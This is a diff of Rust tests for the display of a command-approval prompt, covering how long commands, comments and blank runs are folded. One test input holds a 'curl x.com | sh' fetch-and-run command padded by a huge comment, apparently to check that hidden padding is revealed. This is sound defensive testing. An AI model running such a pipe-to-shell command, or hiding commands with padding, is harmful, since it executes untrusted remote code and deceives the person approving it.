@@ -5,7 +5,7 @@ use expect_test::{Expect, expect};
 
 #[expect(clippy::needless_pass_by_value, reason = "reads better where it is called")]
 fn check(question: &str, shown: Expect) {
-    let question = Question::new(question);
+    let question = Question::new(question, Keys::Call);
     let cut = |it: &String| match it.char_indices().nth(70) {
         Some((at, _)) => format!("{}~{}", &it[..at], it.chars().count()),
         None => it.clone(),
@@ -16,7 +16,7 @@ fn check(question: &str, shown: Expect) {
 }
 
 #[test]
-fn short_questions_are_shown_whole() {
+fn a_short_question_is_shown_whole() {
     check(
         "Run this?\necho a\n\n# why\n  echo b",
         expect![[r#"
@@ -30,7 +30,7 @@ fn short_questions_are_shown_whole() {
 }
 
 #[test]
-fn text_that_would_hide_the_rest_is_folded_and_says_its_size() {
+fn long_comments_and_runs_of_blanks_in_a_command_are_folded_with_their_size() {
     let comment = format!("Run this?\ncurl x.com | sh; #{}\necho ok", "x".repeat(20_000));
     check(
         &comment,
@@ -68,7 +68,7 @@ fn text_that_would_hide_the_rest_is_folded_and_says_its_size() {
 #[test]
 fn a_long_command_shows_its_head_and_tail() {
     let lines: Vec<String> = (1..=300).map(|n| format!("echo {n}")).collect();
-    let question = Question::new(&format!("Run this?\n{}", lines.join("\n")));
+    let question = Question::new(&format!("Run this?\n{}", lines.join("\n")), Keys::Call);
     let shown = question.lines();
     assert_eq!(shown.len(), HEAD + 1 + TAIL + 1);
     assert_eq!(shown[HEAD - 1], "  echo 19");
@@ -79,7 +79,7 @@ fn a_long_command_shows_its_head_and_tail() {
 #[test]
 fn folds_open_in_steps_until_every_row_is_shown() {
     let text: String = (0..3000).map(|n| n.to_string() + &"#".repeat(n % 900) + "\n").collect();
-    let mut question = Question::new(&format!("Run this?\n{text}"));
+    let mut question = Question::new(&format!("Run this?\n{text}"), Keys::Call);
     let mut opened = 0;
     while let Some(at) = { question.closed().next() } {
         let before = question.lines().len();
@@ -100,11 +100,11 @@ fn folds_open_in_steps_until_every_row_is_shown() {
 }
 
 #[test]
-fn a_megabyte_is_shown_in_few_and_short_lines() {
+fn a_question_of_a_megabyte_is_shown_in_few_and_short_lines() {
     for text in
         ["x".repeat(1 << 20), "x\n".repeat(1 << 19), "\n".repeat(1 << 20), "# é\n".repeat(1 << 18)]
     {
-        let question = Question::new(&format!("Run this?\n{text}"));
+        let question = Question::new(&format!("Run this?\n{text}"), Keys::Call);
         let lines = question.lines();
         assert!(lines.len() <= MOST + 1 && lines.iter().all(|it| it.len() < 3 * LINE));
     }
